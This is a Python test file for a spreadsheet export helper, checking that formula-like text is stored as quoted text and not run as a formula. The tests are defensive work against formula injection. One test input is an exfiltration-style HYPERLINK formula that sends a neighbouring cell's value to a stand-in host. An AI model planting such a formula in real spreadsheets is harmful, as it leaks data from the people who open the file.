"""The spreadsheet helper every exporter writes rows through (issue 12 item 2)."""

import io

import pytest
from openpyxl import Workbook, load_workbook

from kvinnofrid.core.spreadsheet import append_text_row


def _round_trip(values):
    workbook = Workbook()
    append_text_row(workbook.active, values)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return list(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())[0]


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://x.example/?"&A2,"Klicka")',
        "+46 70 123 45 67",
        "-SUM(A1)",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_text_that_looks_like_a_formula_is_a_quoted_text_cell(text):
    (cell,) = _round_trip([text])
    assert cell.data_type == "s"
    # openpyxl's own XML writer stores a lone CR as LF; with lxml it is kept as CR
    assert cell.value in (text, text.replace("\r", "\n"))
    assert cell.quotePrefix is True


def test_ordinary_values_keep_their_types():
    cells = _round_trip(["Aneby kommun", 12, 1.5, True, None, "a=b"])
    assert [c.value for c in cells] == ["Aneby kommun", 12, 1.5, True, None, "a=b"]
    assert [c.data_type for c in cells] == ["s", "n", "n", "b", "n", "s"]
    assert not any(c.quotePrefix for c in cells)
